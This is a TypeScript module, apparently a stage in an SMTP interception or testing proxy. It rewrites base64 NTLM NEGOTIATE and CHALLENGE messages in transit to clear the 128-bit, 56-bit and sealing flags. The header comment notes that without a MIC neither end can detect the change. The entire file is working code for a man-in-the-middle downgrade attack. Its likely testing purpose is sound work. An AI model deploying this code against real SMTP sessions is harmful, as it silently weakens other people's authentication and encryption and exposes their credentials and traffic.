/**
 * `ntlm-downgrade`: a box on the path that clears the strength and sealing flags of NTLM
 * (docs/ntlm.md; docs/stages.md). Without a MIC (MS-NLMP §2.2.1.3, only with NTLMv2 and a timestamp), nothing in
 * NTLM protects the negotiated flags, so neither end notices.
 *
 * MS-NLMP §2.2.1.1 NEGOTIATE_MESSAGE: Signature "NTLMSSP\0" (8), MessageType = 1 (4),
 * NegotiateFlags (4) at offset 12. §2.2.1.2 CHALLENGE_MESSAGE: Signature (8), MessageType = 2 (4),
 * TargetNameFields (8), NegotiateFlags at offset 20. Flags are little-endian; §2.2.2.5 gives
 * NTLMSSP_NEGOTIATE_56 = 0x80000000, NTLMSSP_NEGOTIATE_128 = 0x20000000,
 * NTLMSSP_NEGOTIATE_SEAL = 0x00000020.
 *
 * On the SMTP wire (MS-SMTPNTLM §2.2, RFC 4954 §4) the messages are base64: the NEGOTIATE in
 * `AUTH NTLM <b64>` or in the line after `334 ntlm supported`, the CHALLENGE in `334 <b64>`.
 * The re-encoded base64 has the same length (same byte count).
 */
import { z } from 'zod';
import { parseReplyLine } from '../../smtp/wire.ts';
import { CRLF, bodyOf } from './lines.ts';
import { smtpStage } from './smtp-stage.ts';
import type { Verdict } from './smtp-stage.ts';
import { defineStage } from './stage.ts';

export const NTLM_FLAGS = {
  'negotiate-56': 0x80000000,
  'negotiate-128': 0x20000000,
  seal: 0x00000020,
} as const;

type FlagName = keyof typeof NTLM_FLAGS;
const FLAG_NAMES = Object.keys(NTLM_FLAGS) as FlagName[];

const schema = z.strictObject({
  clear: z.array(z.enum(['negotiate-56', 'negotiate-128', 'seal'])).min(1).default([...FLAG_NAMES]),
});

const SIGNATURE = Buffer.from('NTLMSSP\0', 'latin1');

export type DowngradeResult =
  | { ok: true; bytes: Buffer; type: 1 | 2; before: number; after: number }
  | { ok: false; error: string };

/** Clear `mask` in the flags of a NEGOTIATE or CHALLENGE message. Never throws. */
export function downgradeNtlmMessage(msg: Buffer, mask: number): DowngradeResult {
  if (msg.length < 16 || !msg.subarray(0, 8).equals(SIGNATURE)) return { ok: false, error: 'not an NTLMSSP message' };
  const type = msg.readUInt32LE(8);
  if (type !== 1 && type !== 2) return { ok: false, error: `message type ${type} carries no flags to downgrade` };
  const offset = type === 1 ? 12 : 20;
  if (msg.length < offset + 4) return { ok: false, error: 'message too short for its flags' };
  const before = msg.readUInt32LE(offset);
  const after = (before & ~mask) >>> 0;
  const bytes = Buffer.from(msg);
  bytes.writeUInt32LE(after, offset);
  return { ok: true, bytes, type, before, after };
}

const BASE64 = /^(?:[A-Za-z0-9+/]{4})*(?:[A-Za-z0-9+/]{2}==|[A-Za-z0-9+/]{3}=)?$/;

/** The same for a base64 blob; undefined when it is not a message to touch or nothing changes. */
export function downgradeBase64(b64: string, mask: number): { b64: string; note: string } | undefined {
  if (b64.length === 0 || !BASE64.test(b64)) return undefined;
  const result = downgradeNtlmMessage(Buffer.from(b64, 'base64'), mask);
  if (!result.ok || result.before === result.after) return undefined;
  const name = result.type === 1 ? 'NEGOTIATE' : 'CHALLENGE';
  const hex = (n: number): string => `0x${n.toString(16).padStart(8, '0')}`;
  return { b64: result.bytes.toString('base64'), note: `NTLM ${name} flags ${hex(result.before)} → ${hex(result.after)}` };
}

export const ntlmDowngrade = defineStage({
  name: 'ntlm-downgrade',
  summary: 'clears NEGOTIATE_128, NEGOTIATE_56 and SEAL in NTLM NEGOTIATE and CHALLENGE messages',
  schema,
  create(config) {
    const mask = config.clear.reduce((m, f) => (m | NTLM_FLAGS[f]) >>> 0, 0);
    /** Rewrite the base64 that follows `prefix` on a line. */
    const rewrite = (line: Buffer, prefix: string): Verdict | undefined => {
      const text = bodyOf(line).toString('latin1');
      const result = downgradeBase64(text.slice(prefix.length).trim(), mask);
      if (!result) return undefined;
      const tail = line.subarray(bodyOf(line).length);
      return { bytes: Buffer.concat([Buffer.from(prefix + result.b64, 'latin1'), tail.length ? tail : CRLF]), note: result.note };
    };
    return smtpStage('ntlm-downgrade', {
      command(unit) {
        if (!unit.start || !unit.complete) return undefined;
        if (unit.kind === 'auth') return rewrite(unit.bytes, '');
        const m = /^(AUTH\s+NTLM\s+)\S/i.exec(bodyOf(unit.bytes).toString('latin1'));
        return m ? rewrite(unit.bytes, m[1]) : undefined;
      },
      reply(unit) {
        if (unit.code !== 334 || unit.to !== 'AUTH' || unit.lines.length !== 1) return undefined;
        const parsed = parseReplyLine(unit.lines[0]);
        if (!parsed) return undefined;
        return rewrite(unit.lines[0], bodyOf(unit.lines[0]).toString('latin1').slice(0, 4));
      },
    });
  },
});
